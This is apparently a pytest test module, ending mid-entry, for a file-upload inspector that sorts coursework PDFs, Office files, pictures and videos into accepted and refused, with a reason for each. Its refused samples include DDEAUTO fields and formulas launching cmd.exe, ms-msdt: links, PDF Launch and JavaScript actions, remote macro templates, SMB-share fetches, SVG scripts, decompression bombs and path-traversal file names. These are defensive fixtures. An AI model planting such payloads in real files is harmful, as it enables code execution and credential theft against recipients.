"""F1, F2, F4: odd and hostile files are known for what they are, and each gets its reason."""

import base64
import resource
import sys
import zipfile
from dataclasses import replace

import pytest
from pikepdf import Name, String

from awarding.inspection import (
    Facts,
    Limits,
    Outcome,
    Scan,
    child,
    confined,
    inspect,
    office,
    old_office,
    pdf,
    pictures,
    video,
)
from awarding.inspection.kinds import KINDS
from awarding.inspection.reasons import REASONS
from awarding.inspection.verdicts import MEGABYTE
from tests.awarding.inspection import office_files as o
from tests.awarding.inspection import other_files as f

LOOKS = {
    "office": office.look,
    "old_office": old_office.look,
    "pdf": pdf.look,
    "pictures": pictures.look,
    "video": video.look,
}
SMALL = Limits(
    file_bytes=3_000_000,
    members=60,
    pages=20,
    unpacked_bytes=100 * 1024 * 1024,
    head_of_video_bytes=2_000_000,
)
WORD = "application/vnd.ms-word."
SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}

ACCEPTED = {
    "a plain PDF": ("work.pdf", f.pdf, "pdf", Facts(pages=1)),
    "a PDF of three pages": ("work.PDF", lambda: f.pdf(pages=3), "pdf", Facts(pages=3)),
    "a PDF whose font is called EF": ("a.pdf", lambda: f.pdf(f.font_named_ef), "pdf", Facts(1)),
    "a PDF that links to a page": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String("https://example.org/")),
        "pdf",
        Facts(1),
    ),
    "a PDF that links to an e-mail address and to a page without its scheme": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String("mailto:a@example.org?subject=a:b")),
        "pdf",
        Facts(1),
    ),
    "a PDF that links to a page without its scheme": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String(" www.example.org/a:b ")),
        "pdf",
        Facts(1),
    ),
    "a PDF whose links start from a web page": (
        "a.pdf",
        lambda: f.pdf(f.base_of_links("https://example.org/")),
        "pdf",
        Facts(1),
    ),
    "a PDF with a drawing of ten megabytes": (
        "a.pdf",
        lambda: f.pdf(f.unpacking(10)),
        "pdf",
        Facts(1),
    ),
    "a PDF with a large blank scan": (
        "a.pdf",
        lambda: f.pdf(f.unpacking(100, Subtype=Name.Image, Width=4960, Height=7016)),
        "pdf",
        Facts(1),
    ),
    "a PDF with a large drawing of two colours": (
        "a.pdf",
        lambda: f.pdf(f.pictured(14_043, 19_866, BitsPerComponent=1)),
        "pdf",
        Facts(1),
    ),
    "a PDF with a photograph": (
        "a.pdf",
        lambda: f.pdf(f.written(f.picture("JPEG"), "DCTDecode", Width=60, Height=40)),
        "pdf",
        Facts(1),
    ),
    "a PDF with a photograph nobody can read": (
        "a.pdf",
        lambda: f.pdf(f.written(b"rubbish", "DCTDecode", Width=60, Height=40)),
        "pdf",
        Facts(1),
    ),
    "a PDF whose drawing breaks off": (
        "a.pdf",
        lambda: f.pdf(f.written(b"x\x9c\xff\xff\xff", "FlateDecode")),
        "pdf",
        Facts(1),
    ),
    "a PDF of a large sheet": (
        "a.pdf",
        lambda: f.pdf(f.paper([0, 0, 2384, 3370])),
        "pdf",
        Facts(1),
    ),
    "a PDF whose page has no good box": (
        "a.pdf",
        lambda: f.pdf(f.paper([0, 0, 9])),
        "pdf",
        Facts(1),
    ),
    "a PDF that links to a file beside it": (
        "a.pdf",
        lambda: f.on_click(S=Name.GoToR, F=String("appendix.pdf")),
        "pdf",
        Facts(1),
    ),
    "a PDF that opens at a page and has a state called AA": (
        "a.pdf",
        lambda: f.pdf(f.state_named_aa),
        "pdf",
        Facts(1),
    ),
    "a PDF that opens at a destination by name": (
        "a.pdf",
        lambda: f.on_open(S=Name.GoTo, D=String("start")),
        "pdf",
        Facts(1),
    ),
    "a Word document": ("essay.docx", o.document, "docx", Facts()),
    "a Word document packed without compression": (
        "essay.docx",
        lambda: o.packed(o.parts(), compression=zipfile.ZIP_STORED),
        "docx",
        Facts(),
    ),
    "a presentation": ("talk.pptx", lambda: o.document("pptx"), "pptx", Facts()),
    "a workbook": ("sums.xlsx", lambda: o.document("xlsx"), "xlsx", Facts()),
    "a link that may be followed": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "https://example.org/", "External"),
        "docx",
        Facts(),
    ),
    "a template on the author's own disk": (
        "essay.docx",
        lambda: o.with_relation("attachedTemplate", "file:///C:\\Users\\a\\b.dotx", "External"),
        "docx",
        Facts(),
    ),
    "a link to an e-mail address": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "MAILTO:a@example.org", "External"),
        "docx",
        Facts(),
    ),
    "a link to a heading": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "#Sheet1!A1:B2", "External"),
        "docx",
        Facts(),
    ),
    "a link without its scheme": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "www.example.org/a:b", "External"),
        "docx",
        Facts(),
    ),
    "a picture that was pasted from the author's own disk": (
        "essay.docx",
        lambda: o.with_relation("image", "file:///C:\\Temp\\a.png", "External"),
        "docx",
        Facts(),
    ),
    "a template on a Mac": (
        "essay.docx",
        lambda: o.with_relation("attachedTemplate", "file:///Users/a/b.dotx", "External"),
        "docx",
        Facts(),
    ),
    "a workbook whose numbers come from another beside it": (
        "sums.xlsx",
        lambda: o.with_relation("externalLinkPath", "Other book.xlsx", "External", kind="xlsx"),
        "xlsx",
        Facts(),
    ),
    "a picture pasted on a Mac": (
        "essay.docx",
        lambda: o.field(' INCLUDEPICTURE "/var/folders/x/T/page1image7" \\* MERGEFORMATINET '),
        "docx",
        Facts(),
    ),
    "a picture pasted from a mail": (
        "essay.docx",
        lambda: o.field(' INCLUDEPICTURE "cid:image001.png@01D9" \\* MERGEFORMATINET '),
        "docx",
        Facts(),
    ),
    "a picture pasted from a disk": (
        "essay.docx",
        lambda: o.field(' INCLUDEPICTURE "C:\\\\Temp\\\\a.png" \\* MERGEFORMATINET '),
        "docx",
        Facts(),
    ),
    "a field of very many words": (
        "essay.docx",
        lambda: o.field(" ADDIN X " + "y" * 99_900, "z" * 300, " DDE"),
        "docx",
        Facts(),
    ),
    "the name of a function in the text of a formula": (
        "sums.xlsx",
        lambda: o.sheet('<c><f>CONCAT("WEBSERVICE(",MYIMAGE(A1),IMAGES!A1)</f></c>'),
        "xlsx",
        Facts(),
    ),
    "an essay about DDEAUTO": (
        "essay.docx",
        lambda: o.document(inside="<w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p>"),
        "docx",
        Facts(),
    ),
    "an ordinary field": ("essay.docx", lambda: o.field(" PAGE ", "DDE"), "docx", Facts()),
    "a bar inside the text of a formula": (
        "sums.xlsx",
        lambda: o.sheet("<c><f>IF(A1=\"a|b\",'x|y'!A1,Table1[a|b])</f></c>"),
        "xlsx",
        Facts(),
    ),
    "a chart with its numbers": (
        "essay.docx",
        lambda: o.with_part("word/embeddings/Sheet1.xlsx", o.document("xlsx")),
        "docx",
        Facts(),
    ),
    "a JPG": ("photo.jpg", lambda: f.picture("JPEG"), "jpg", Facts(width=60, height=40)),
    "a JPEG in colours for print": (
        "photo.jpeg",
        lambda: f.picture("JPEG", mode="CMYK"),
        "jpg",
        Facts(width=60, height=40),
    ),
    "a JPG of one pixel": (
        "dot.jpg",
        lambda: f.picture("JPEG", (1, 1)),
        "jpg",
        Facts(width=1, height=1),
    ),
    "two JPGs in one, as some phones save them": (
        "photo.jpg",
        lambda: f.picture("MPO", save_all=True, append_images=[f.Image.new("RGB", (60, 40))]),
        "jpg",
        Facts(width=60, height=40),
    ),
    "a PNG": ("shot.png", f.picture, "png", Facts(width=60, height=40)),
    "an MP4": ("talk.mp4", f.mp4, "mp4", Facts(seconds=75.0)),
    "an MP4 with its index last": (
        "talk.mp4",
        lambda: f.mp4(moov=b"") + f.box(b"moov", f.header(9) + f.track()),
        "mp4",
        Facts(seconds=9.0),
    ),
    "an MP4 with a long header": (
        "talk.mp4",
        lambda: f.mp4(moov=f.box(b"moov", f.long_header(7) + f.track())),
        "mp4",
        Facts(seconds=7.0),
    ),
    "an MP4 in fragments": (
        "talk.mp4",
        lambda: f.mp4(moov=f.box(b"moov", f.header(0) + f.track())) + f.box(b"moof"),
        "mp4",
        Facts(),
    ),
    "an MP4 whose last box has no length": (
        "talk.mp4",
        lambda: f.mp4() + b"\0\0\0\0mdat" + bytes(40),
        "mp4",
        Facts(seconds=75.0),
    ),
    "a name in another script": ("Übung 作業.pdf", f.pdf, "pdf", Facts(pages=1)),
}

REFUSED = {
    # What any file may be
    "an empty file": ("work.pdf", lambda: b"", "empty", ""),
    "a file that is too large": ("work.pdf", lambda: b"%PDF-" + bytes(3_000_001), "too-large", ""),
    "a name with a NUL": ("work\0.pdf", f.pdf, "odd-name", ""),
    "a name that reads backwards": ("work\u202efdp.docx", o.document, "odd-name", ""),
    "a name that climbs": ("../../etc/work.pdf", f.pdf, "odd-name", ""),
    "a name with a surrogate": ("work\ud800.pdf", f.pdf, "odd-name", ""),
    "a name of blanks": ("   ", f.pdf, "odd-name", ""),
    "a very long name": ("w" * 300 + ".pdf", f.pdf, "long-name", ""),
    "a name without an ending": ("work", f.pdf, "no-ending", ""),
    "a text file": ("notes.txt", lambda: b"my notes", "ending-not-allowed", ""),
    "a PDF named as a program": ("work.pdf.exe", f.pdf, "ending-not-allowed", ""),
    "text named as a PDF": ("work.pdf", lambda: b"my notes", "unknown-content", ""),
    "a PNG named as a PDF": ("work.pdf", f.picture, "ending-differs", ""),
    "a PDF named as a Word document": ("work.docx", f.pdf, "ending-differs", ""),
    "a workbook named as a Word document": (
        "work.docx",
        lambda: o.document("xlsx"),
        "ending-differs",
        "xlsx",
    ),
    "a program named as a PDF": ("work.pdf", lambda: b"MZ" + bytes(90), "kind-not-allowed", ""),
    "a web page named as a PDF": (
        "work.pdf",
        lambda: b"<!DOCTYPE html><script>1</script>",
        "kind-not-allowed",
        "",
    ),
    "an SVG named as a PNG": ("a.png", lambda: b"<svg onload='x()'/>", "kind-not-allowed", ""),
    "a GIF": ("a.gif", lambda: f.picture("GIF", mode="P"), "kind-not-allowed", ""),
    "an e-book": ("a.docx", lambda: o.packed({"mimetype": "epub"}), "kind-not-allowed", ""),
    "a sound file": ("a.mp4", lambda: f.mp4(b"M4A "), "kind-not-allowed", ""),
    "an Outlook message": ("a.docx", lambda: o.ole("__substg1.0"), "kind-not-allowed", ""),
    "a picture of a phone": ("a.jpg", lambda: f.mp4(b"heic"), "phone-picture", ""),
    "a video of a phone": ("a.mp4", lambda: f.mp4(b"qt  "), "phone-video", ""),
    "an old video of a phone": ("a.mov", lambda: f.box(b"moov", b"x"), "phone-video", ""),
    "a ZIP": ("work.zip", lambda: o.packed({"a.txt": "a"}), "archive", ""),
    "a ZIP named as a Word document": (
        "work.docx",
        lambda: o.packed({"a.txt": "a"}),
        "archive",
        "",
    ),
    "a RAR named as a PDF": ("work.pdf", lambda: b"Rar!\x1a\x07\0", "archive", ""),
    "an old Word document": ("work.doc", lambda: o.ole("WordDocument"), "old-office", ""),
    "an old Word document with a new ending": (
        "work.docx",
        lambda: o.ole("WordDocument"),
        "old-office",
        "",
    ),
    "an old workbook": ("work.xls", lambda: o.ole("Workbook"), "old-office", ""),
    "a new document with an old ending": ("work.doc", o.document, "old-office", ""),
    "an encrypted Office file whose names are spelt otherwise": (
        "work.docx",
        lambda: o.ole("encryptedpackage"),
        "locked",
        "",
    ),
    "an encrypted Office file": (
        "work.docx",
        lambda: o.ole("EncryptionInfo", "EncryptedPackage"),
        "locked",
        "",
    ),
    # Two kinds at once
    "a PDF that is also an archive": ("a.pdf", lambda: f.zip_after(f.pdf()), "two-in-one", "pdf"),
    "a PDF that is also a web page": (
        "a.pdf",
        lambda: b"%PDF-1.7\n%<html><script>alert(1)</script>\n" + f.pdf(),
        "two-in-one",
        "pdf",
    ),
    "a JPG that is also an archive": (
        "a.jpg",
        lambda: f.zip_after(f.picture("JPEG")),
        "two-in-one",
        "jpg",
    ),
    "an archive that is also a PDF": (
        "a.docx",
        lambda: o.packed({"%PDF-1.4": ""} | o.parts()),
        "two-in-one",
        "",
    ),
    "a PNG that is also a PDF": (
        "a.png",
        lambda: f.picture()[:33] + b"%PDF-1.4" + f.picture(),
        "two-in-one",
        "png",
    ),
    "a picture with a script in its comment": ("a.png", f.noisy_png, "two-in-one", "png"),
    "a video that is also an archive": (
        "a.mp4",
        lambda: f.zip_after(f.mp4()),
        "two-in-one",
        "mp4",
    ),
    # PDF
    "half a PDF": ("a.pdf", lambda: f.pdf()[:300], "cut-short", "pdf"),
    "a PDF of rubbish": ("a.pdf", lambda: b"%PDF-1.7\n" + b"x" * 99 + b"%%EOF", "damaged", "pdf"),
    "a PDF without pages": ("a.pdf", lambda: f.pdf(pages=0), "no-pages", "pdf"),
    "a PDF of too many pages": ("a.pdf", lambda: f.pdf(pages=21), "too-many-pages", "pdf"),
    "a PDF with a password": ("a.pdf", lambda: f.locked_pdf("secret"), "locked", "pdf"),
    "a PDF that may not be printed": ("a.pdf", lambda: f.locked_pdf(""), "locked", "pdf"),
    "a PDF with a script": ("a.pdf", lambda: f.on_open(**SCRIPT), "pdf-script", "pdf"),
    "a PDF with a script deep inside": (
        "a.pdf",
        lambda: f.pdf(f.deep_inside),
        "pdf-script",
        "pdf",
    ),
    "a PDF with a script by another spelling": ("a.pdf", f.hidden_name, "pdf-script", "pdf"),
    "a PDF that starts a program": (
        "a.pdf",
        lambda: f.on_open(S=Name.Launch, F=String("cmd.exe")),
        "pdf-launch",
        "pdf",
    ),
    "a PDF that sends what is filled in": (
        "a.pdf",
        lambda: f.on_open(S=Name.SubmitForm, F=String("https://example.org/")),
        "pdf-launch",
        "pdf",
    ),
    "a PDF that opens a file on a share": (
        "a.pdf",
        lambda: f.on_open(S=Name.GoToR, F=String("\\\\host\\share\\a.pdf")),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that opens a web page by itself": (
        "a.pdf",
        lambda: f.on_open(S=Name.URI, URI=String("https://example.org/")),
        "pdf-outside",
        "pdf",
    ),
    "a PDF whose page opens a web page by itself, second": (
        "a.pdf",
        lambda: f.on_show(S=Name.URI, URI=String("https://example.org/")),
        "pdf-outside",
        "pdf",
    ),
    "a PDF whose steps at opening go round": (
        "a.pdf",
        lambda: f.pdf(f.turning_back),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that links to a file on a share": (
        "a.pdf",
        lambda: f.on_click(S=Name.GoToR, F=String("\\\\host\\share\\a.pdf")),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that links to a file on a share, in the words of a PDF": (
        "a.pdf",
        lambda: f.on_click(S=Name.GoToR, F=f.Dictionary(UF=String("//host/share/a.pdf"))),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that links to a script": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String("javascript:alert(1)")),
        "odd-link",
        "pdf",
    ),
    "a PDF that links to a script in disguise": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String(" java\nscript:alert(1)")),
        "odd-link",
        "pdf",
    ),
    "a PDF that links to a file by its address": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String("file:///etc/passwd")),
        "odd-link",
        "pdf",
    ),
    "a PDF that links to a share": (
        "a.pdf",
        lambda: f.on_click(S=Name.URI, URI=String("\\\\host\\share\\a.pdf")),
        "odd-link",
        "pdf",
    ),
    "a PDF whose links start from a share": (
        "a.pdf",
        lambda: f.pdf(f.base_of_links("file://host/share/")),
        "odd-link",
        "pdf",
    ),
    "a PDF drawn from elsewhere": (
        "a.pdf",
        lambda: f.pdf(f.drawn_elsewhere),
        "pdf-outside",
        "pdf",
    ),
    "a PDF drawn from a file beside it": (
        "a.pdf",
        lambda: f.pdf(f.drawn_in_another_file),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that shows a page of another": (
        "a.pdf",
        lambda: f.pdf(f.shown_from_elsewhere),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that names a file by its address": (
        "a.pdf",
        lambda: f.pdf(f.named_file({"FS": Name.URL, "F": String("a.html")})),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that names a file on a share": (
        "a.pdf",
        lambda: f.pdf(f.named_file({"UF": String("\\\\host\\share\\a")})),
        "pdf-outside",
        "pdf",
    ),
    "a PDF that leads to an article on a share": (
        "a.pdf",
        lambda: f.on_click(S=Name.Thread, F=String("//host/share/a.pdf")),
        "pdf-outside",
        "pdf",
    ),
    "a PDF whose drawing unpacks to 300 megabytes": (
        "a.pdf",
        lambda: f.pdf(f.unpacking(300)),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF whose drawing was packed twice": (
        "a.pdf",
        lambda: f.pdf(
            f.unpacking(300, filters=("FlateDecode", "FlateDecode"), how=f.zlib.compress)
        ),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF whose drawing was packed and spelt in letters": (
        "a.pdf",
        lambda: f.pdf(
            f.unpacking(30, filters=("ASCIIHexDecode", "Fl"), how=lambda told: told.hex().encode())
        ),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF whose drawing was packed and spelt in more letters": (
        "a.pdf",
        lambda: f.pdf(
            f.unpacking(
                30,
                filters=("ASCII85Decode", "FlateDecode"),
                how=lambda told: b"<~" + base64.a85encode(told, wrapcol=60) + b"~>",
            )
        ),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF whose drawing is spelt in letters there are not": (
        "a.pdf",
        lambda: f.pdf(f.written(b"\x7f\x7f\x7f", "ASCII85Decode")),
        "damaged",
        "pdf",
    ),
    "a PDF whose drawing is a run of one letter": (
        "a.pdf",
        lambda: f.pdf(f.written(b"\0a" + b"\x81 " * 1_100_000 + b"\x80", "RunLengthDecode")),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF whose drawing is packed in an old way": (
        "a.pdf",
        lambda: f.pdf(f.written(f.lzw(4), "LZWDecode")),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF whose drawing was packed seven times": (
        "a.pdf",
        lambda: f.pdf(f.unpacking(1, filters=("FlateDecode",) * 7)),
        "too-complex",
        "pdf",
    ),
    "a PDF whose picture unpacks to more than its pixels": (
        "a.pdf",
        lambda: f.pdf(f.unpacking(60, Subtype=Name.Image, Width=60, Height=40)),
        "pdf-unpacks-too-large",
        "pdf",
    ),
    "a PDF with a picture of 60,000 by 60,000 pixels": (
        "a.pdf",
        lambda: f.pdf(f.pictured(60_000, 60_000, BitsPerComponent=1)),
        "pdf-picture-too-large",
        "pdf",
    ),
    "a PDF with a photograph that hides its size": (
        "a.pdf",
        lambda: f.pdf(f.written(f.picture("JPEG", (8_000, 8_000), "L"), "DCTDecode")),
        "pdf-picture-too-large",
        "pdf",
    ),
    "a PDF with a photograph that hides that it has more pixels than memory": (
        "a.pdf",
        lambda: f.pdf(f.written(f.jpg_said_to_have(60_000), "DCTDecode")),
        "pdf-picture-too-large",
        "pdf",
    ),
    "a PDF whose rows are very long": (
        "a.pdf",
        lambda: f.pdf(
            f.unpacking(1, DecodeParms=f.Dictionary(Predictor=12, Columns=2_000_000_000))
        ),
        "pdf-picture-too-large",
        "pdf",
    ),
    "a PDF of a sheet larger than a town": (
        "a.pdf",
        lambda: f.pdf(f.paper([0, 0, 2_000_000_000, 2_000_000_000])),
        "pdf-page-too-large",
        "pdf",
    ),
    "a PDF of a sheet whose size is told above it": (
        "a.pdf",
        lambda: f.pdf(f.paper([0, 0, 9, 9], above=[-9_000, 0, 9_000, 9])),
        "pdf-page-too-large",
        "pdf",
    ),
    "a PDF of a sheet in large units": (
        "a.pdf",
        lambda: f.pdf(f.paper([0, 0, 600, 800], UserUnit=75_000)),
        "pdf-page-too-large",
        "pdf",
    ),
    "a PDF of boxes within boxes": (
        "a.pdf",
        lambda: f.pdf(f.nested),
        "too-complex",
        "pdf",
    ),
    "a PDF with an attachment": ("a.pdf", lambda: f.pdf(f.attach), "pdf-attachment", "pdf"),
    "a PDF with a pinned file": ("a.pdf", lambda: f.pdf(f.pin), "pdf-attachment", "pdf"),
    "a PDF with film": ("a.pdf", lambda: f.pdf(f.film), "pdf-media", "pdf"),
    "a PDF form of another program": ("a.pdf", lambda: f.pdf(f.xfa), "pdf-form", "pdf"),
    # Office: macros and what acts
    "a macro document": ("a.docm", o.document, "macros", ""),
    "a macro document renamed": (
        "a.docx",
        lambda: o.of_type(WORD + "document.macroEnabled.main+xml"),
        "macros",
        "",
    ),
    "a macro project": ("a.docx", lambda: o.with_part("word/vbaProject.bin", "x"), "macros", ""),
    "a macro project by another name": (
        "a.docx",
        lambda: o.with_relation("vbaProject", "media/image1.png"),
        "macros",
        "",
    ),
    "a macro project nobody points at": (
        "a.docx",
        lambda: o.with_part("word/media/image1.png", o.ole("VBA", "_VBA_PROJECT")),
        "macros",
        "",
    ),
    "an old macro sheet": (
        "a.xlsx",
        lambda: o.with_part("xl/macrosheets/sheet1.xml", "<a/>", "xlsx"),
        "macros",
        "",
    ),
    "a slide that runs a macro": (
        "a.pptx",
        lambda: o.with_part(
            "ppt/slides/slide1.xml",
            '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://macro?name=x"/></p:sld>',
            "pptx",
        ),
        "macros",
        "",
    ),
    "macros in an embedded workbook": (
        "a.docx",
        lambda: o.with_part(
            "word/embeddings/Sheet1.xlsx", o.with_part("xl/vbaProject.bin", "x", "xlsx")
        ),
        "macros",
        "",
    ),
    "a template": (
        "a.docx",
        lambda: o.of_type(o.TYPE + "wordprocessingml.template.main+xml"),
        "template",
        "",
    ),
    "an ActiveX control": (
        "a.docx",
        lambda: o.with_part("word/activeX/activeX1.bin", "x"),
        "active-control",
        "",
    ),
    "an ActiveX control by its type": (
        "a.docx",
        lambda: o.packed(
            o.parts()
            | {
                "[Content_Types].xml": o.types(
                    *o.MAIN["docx"], **{"word/a.bin": "application/vnd.ms-office.activeX"}
                )
            }
        ),
        "active-control",
        "",
    ),
    "an ActiveX control by its relation": (
        "a.docx",
        lambda: o.with_relation("control", "a.bin"),
        "active-control",
        "",
    ),
    "a slide that starts a program": (
        "a.pptx",
        lambda: o.with_part(
            "ppt/slides/slide1.xml",
            '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkHover action="ppaction://program"/></p:sld>',
            "pptx",
        ),
        "live-link",
        "",
    ),
    "a template fetched from elsewhere": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "https://example.org/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "an old picture fetched from a share": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:r><w:pict xmlns:v="v" xmlns:o="o"><v:shape><v:imagedata'
            ' src="\\\\host\\share\\a.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        "fetches-from-outside",
        "",
    ),
    "an old picture fetched from the web": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:r><w:pict xmlns:v="v" xmlns:o="o"><v:shape><v:imagedata'
            ' o:href="https://example.org/a.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        "fetches-from-outside",
        "",
    ),
    "an old fill fetched from the web": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:pict xmlns:v="v"><v:fill src="https://example.org/a.png"/></w:pict></w:p>'
        ),
        "fetches-from-outside",
        "",
    ),
    "an old shape that leads to a program": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:pict xmlns:v="v"><v:shape href="ms-msdt:/id"/></w:pict></w:p>'
        ),
        "odd-link",
        "",
    ),
    "a schema kept elsewhere": (
        "a.docx",
        lambda: o.with_part(
            "word/settings.xml",
            '<w:settings xmlns:w="w" xmlns:sl="sl"><sl:schemaLibrary><sl:schema'
            ' sl:schemaLocation="https://example.org/a.xsd"/></sl:schemaLibrary></w:settings>',
        ),
        "fetches-from-outside",
        "",
    ),
    "a schema attached by its address": (
        "a.docx",
        lambda: o.with_part(
            "word/settings.xml",
            '<w:settings xmlns:w="w"><w:attachedSchema'
            ' w:val="\\\\host\\share\\a.xsd"/></w:settings>',
        ),
        "fetches-from-outside",
        "",
    ),
    "a drawing with a script": (
        "a.docx",
        lambda: o.with_part("word/media/a.svg", "<svg xmlns='s'><script>x()</script></svg>"),
        "acting-drawing",
        "",
    ),
    "a drawing that acts when it is shown": (
        "a.docx",
        lambda: o.with_part("word/media/a.svg", "<svg xmlns='s' onload='x()'/>"),
        "acting-drawing",
        "",
    ),
    "a drawing that fetches another": (
        "a.docx",
        lambda: o.with_part(
            "word/media/a.svg",
            "<svg xmlns='s' xmlns:x='x'><image x:href='https://example.org/a.png'/></svg>",
        ),
        "fetches-from-outside",
        "",
    ),
    "a drawing whose style fetches": (
        "a.docx",
        lambda: o.with_part(
            "word/media/a.svg",
            "<svg xmlns='s'><rect style='fill:url(https://example.org/a)'/></svg>",
        ),
        "fetches-from-outside",
        "",
    ),
    "a picture fetched from a share": (
        "a.docx",
        lambda: o.with_relation("image", "\\\\host\\share\\a.png", "External"),
        "fetches-from-outside",
        "",
    ),
    "a field that starts a program": (
        "a.docx",
        lambda: o.field('DDEAUTO c:\\cmd.exe "/k calc"'),
        "live-link",
        "",
    ),
    "a field that starts a program, in pieces": (
        "a.docx",
        lambda: o.field(" DD", "EAU", "TO cmd"),
        "live-link",
        "",
    ),
    "a simple field that starts a program": (
        "a.docx",
        lambda: o.document(inside='<w:fldSimple w:instr=" dde cmd x"/>'),
        "live-link",
        "",
    ),
    "a formula that starts a program": (
        "a.xlsx",
        lambda: o.sheet("<c><f>1+cmd|'/C calc'!A0</f></c>"),
        "live-link",
        "",
    ),
    "a live link to another program": (
        "a.xlsx",
        lambda: o.with_part(
            "xl/externalLinks/externalLink1.xml", '<e><ddeLink ddeService="cmd"/></e>', "xlsx"
        ),
        "live-link",
        "",
    ),
    "a field in a part with another ending": (
        "a.docx",
        lambda: o.packed(
            o.parts()
            | {
                "[Content_Types].xml": o.types(
                    *o.MAIN["docx"], **{"word/more.dat": "application/x+xml"}
                ),
                "word/more.dat": '<w:p xmlns:w="w"><w:fldSimple w:instr="DDEAUTO x"/></w:p>',
            }
        ),
        "live-link",
        "",
    ),
    "a template fetched by another protocol": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "webdav://host/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "an object behind a link that starts a program": (
        "a.docx",
        lambda: o.with_relation("oleObject", "ms-msdt:/id", "External"),
        "fetches-from-outside",
        "",
    ),
    "an object on the author's own disk": (
        "a.docx",
        lambda: o.with_relation("oleObject", "file:///C:\\a.xlsx", "External"),
        "fetches-from-outside",
        "",
    ),
    "a template fetched in small letters": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "https://example.org/a.dotm", "external"),
        "fetches-from-outside",
        "",
    ),
    "a template fetched without saying so": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "https://example.org/a.dotm", "Internal"),
        "fetches-from-outside",
        "",
    ),
    "a picture fetched from a share after a blank": (
        "a.docx",
        lambda: o.with_relation("image", " \\\\host\\a.png", "External"),
        "fetches-from-outside",
        "",
    ),
    "a template on a share with slashes": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "file:////host/share/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "a template on a host": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "file://host/share/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "a link that starts a program": (
        "a.docx",
        lambda: o.with_relation("hyperlink", "ms-msdt:/id", "External"),
        "odd-link",
        "",
    ),
    "a link to a share": (
        "a.docx",
        lambda: o.with_relation("hyperlink", "\\\\host\\a", "external"),
        "odd-link",
        "",
    ),
    "a field that fetches a picture": (
        "a.docx",
        lambda: o.field(' INCLUDEPICTURE "http://host/x.png" \\d '),
        "fetches-from-outside",
        "",
    ),
    "a field that fetches text": (
        "a.docx",
        lambda: o.field('includetext "http://host/x.docx"'),
        "fetches-from-outside",
        "",
    ),
    "a field that fetches a picture, in pieces": (
        "a.docx",
        lambda: o.field(" INCLUDE", 'PICTURE "htt', 'p://host/x.png"'),
        "fetches-from-outside",
        "",
    ),
    "a field that fetches from a share without quotes": (
        "a.docx",
        lambda: o.field(r" INCLUDETEXT \\\\host\\a.docx \! "),
        "fetches-from-outside",
        "",
    ),
    "a field that links to a share": (
        "a.docx",
        lambda: o.field(r'LINK Excel.Sheet.12 "\\\\host\\a.xlsx" "A1" \a'),
        "fetches-from-outside",
        "",
    ),
    "a field whose address nobody can read": (
        "a.docx",
        lambda: o.field(' INCLUDEPICTURE "\n QUOTE 104 116 116 112 '),
        "fetches-from-outside",
        "",
    ),
    "a field that asks a database": (
        "a.docx",
        lambda: o.field(r'DATABASE \d "a" \c "b"'),
        "fetches-from-outside",
        "",
    ),
    "a field that starts a program after a very long blank": (
        "a.docx",
        lambda: o.field(" " * 99_997 + "DD", "EAUTO cmd"),
        "live-link",
        "",
    ),
    "a workbook connected to a database": (
        "a.xlsx",
        lambda: o.with_part(
            "xl/connections.xml",
            f'<connections xmlns="{o.SHEET}"><connection id="1" name="Sales" type="1">'
            '<dbPr connection="DSN=x"/></connection></connections>',
            "xlsx",
        ),
        "data-connection",
        "",
    ),
    "a letter connected to a database": (
        "a.docx",
        lambda: o.with_part(
            "word/settings.xml",
            f'<w:settings xmlns:w="{o.WORD}"><w:mailMerge><w:connectString w:val="DSN=x"/>'
            "</w:mailMerge></w:settings>",
        ),
        "data-connection",
        "",
    ),
    "a formula that asks a web page": (
        "a.xlsx",
        lambda: o.sheet('<c><f>_xlfn.WEBSERVICE("http://host/"&amp;A1)</f></c>'),
        "fetching-formula",
        "",
    ),
    "a formula that fetches a picture": (
        "a.xlsx",
        lambda: o.sheet("<c><f>'a'!A1&amp;image (A1)</f></c>"),
        "fetching-formula",
        "",
    ),
    "a format whose formula asks a web page": (
        "a.xlsx",
